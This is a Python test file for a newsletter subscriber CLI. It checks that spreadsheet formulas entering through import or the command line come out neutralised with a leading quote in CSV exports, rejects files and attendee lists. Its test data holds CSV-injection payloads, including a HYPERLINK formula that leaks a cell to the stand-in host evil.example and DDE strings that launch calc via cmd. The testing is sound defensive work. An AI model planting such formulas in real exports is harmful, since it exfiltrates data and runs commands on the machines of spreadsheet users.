"""Finding 7: spreadsheet formulas in exports. Values that a spreadsheet would evaluate
(`=HYPERLINK(...)`, `+`, `-`, `@`, tab, CR) come in through import and the CLI, and must come out
of `subscribers export`, the import rejects file and the attendee list as text (a leading single
quote); importing an export reads them back unchanged. On both databases, through the real CLI."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from subscribers.csvcells import FORMULA_STARTS, neutralise, restore

FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?leak="&A2,"Klik hier")',
    "organisation": "+cmd|' /C calc'!A0",
    "job_title": "-2+3",
    "kleur": "@SUM(1+1)*cmd|' /C calc'!A0",
    "telefoon": "=1+1",
}


def assert_no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


def read_csv(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def write_import_file(path: Path) -> None:
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh, delimiter=";")
        writer.writerow(["e-mail", "naam", "organisatie", "functie", "regio", "kleur", "telefoon"])
        writer.writerow(["anna@gemeente.example.nl", FORMULAS["name"], FORMULAS["organisation"],
                         FORMULAS["job_title"], "Noord", FORMULAS["kleur"], FORMULAS["telefoon"]])
        # Rejected (not an address); the rejects file repeats the row's cells.
        writer.writerow(["=cmd|' /C calc'!A0", "@evil", "+1", "-1", "Noord", "=1", "\r=2"])


def test_export_and_rejects_hold_no_live_formula(run_cli, tmp_path: Path):
    run_cli("lists", "create", "nieuwsbrief", "--title", "Nieuwsbrief")
    source = tmp_path / "in.csv"
    write_import_file(source)
    rejects = tmp_path / "rejects.csv"
    result = run_cli("subscribers", "import", str(source), "--list", "nieuwsbrief",
                     "--rejects", str(rejects), ok=False)
    assert result.exit_code == 1  # one row rejected, the other imported
    rejected = read_csv(rejects.read_text(encoding="utf-8-sig"), ";")
    assert_no_live_formula(rejected)
    assert rejected[1][2:] == ["'=cmd|' /C calc'!A0", "'@evil", "'+1", "'-1", "Noord", "'=1",
                               "'=2"]  # cells are trimmed on import

    # The person was stored as typed (the quote is only for spreadsheets).
    shown = json.loads(run_cli("subscribers", "export", "--format", "json").output)
    assert shown[0]["name"] == FORMULAS["name"]
    assert shown[0]["attributes"]["kleur"] == FORMULAS["kleur"]

    for delimiter in (",", ";"):
        out = tmp_path / f"export{delimiter}.csv"
        run_cli("subscribers", "export", "--delimiter", delimiter, "-o", str(out))
        rows = read_csv(out.read_text(encoding="utf-8-sig"), delimiter)
        assert_no_live_formula(rows)
        header, row = rows[0], rows[1]
        assert row[header.index("name")] == "'" + FORMULAS["name"]

    # An export imports back unchanged (as another person, so both can be compared).
    exported = (tmp_path / "export;.csv").read_text(encoding="utf-8-sig")
    back = tmp_path / "back.csv"
    back.write_text(exported.replace("anna@", "anna.terug@"), encoding="utf-8")
    run_cli("lists", "create", "terug", "--title", "Terug")
    run_cli("subscribers", "import", str(back), "--list", "terug")
    people = json.loads(run_cli("subscribers", "export", "--format", "json", "--list",
                                "terug").output)
    assert len(people) == 1
    person = people[0]
    assert person["email"] == "anna.terug@gemeente.example.nl"
    assert person["name"] == FORMULAS["name"]
    assert person["organisation"] == FORMULAS["organisation"]
    assert person["job_title"] == FORMULAS["job_title"]
    assert person["attributes"]["kleur"] == FORMULAS["kleur"]
    assert person["attributes"]["telefoon"] == FORMULAS["telefoon"]


def test_attendee_list_holds_no_live_formula(run_cli):
    run_cli("subscribers", "add", "anna@gemeente.example.nl", "--name", FORMULAS["name"],
            "--organisation", FORMULAS["organisation"], "--region", "Noord")
    eid = run_cli(
        "events", "create", "--title", "Regio Noord", "--region", "noord",
        "--starts", "2099-04-14 13:30", "--ends", "2099-04-14 16:00",
        "--venue", "Provinciehuis", "--address", "Martinikerkhof 12, Groningen",
    ).stdout.strip()
    run_cli("events", "rsvp", eid, "anna@gemeente.example.nl", "yes")
    rows = read_csv(run_cli("events", "rsvps", eid, "--format", "csv").output)
    assert_no_live_formula(rows)
    assert rows[1][:2] == ["'" + FORMULAS["name"], "'" + FORMULAS["organisation"]]


def test_cells_round_trip():
    for value in [*FORMULAS.values(), "\t=1+1", "\r=2", "'=already quoted", "gewoon", "", "'",
                  "O'Brien"]:
        assert restore(neutralise(value)) == value
    assert neutralise(3) == 3 and neutralise("3") == "3"
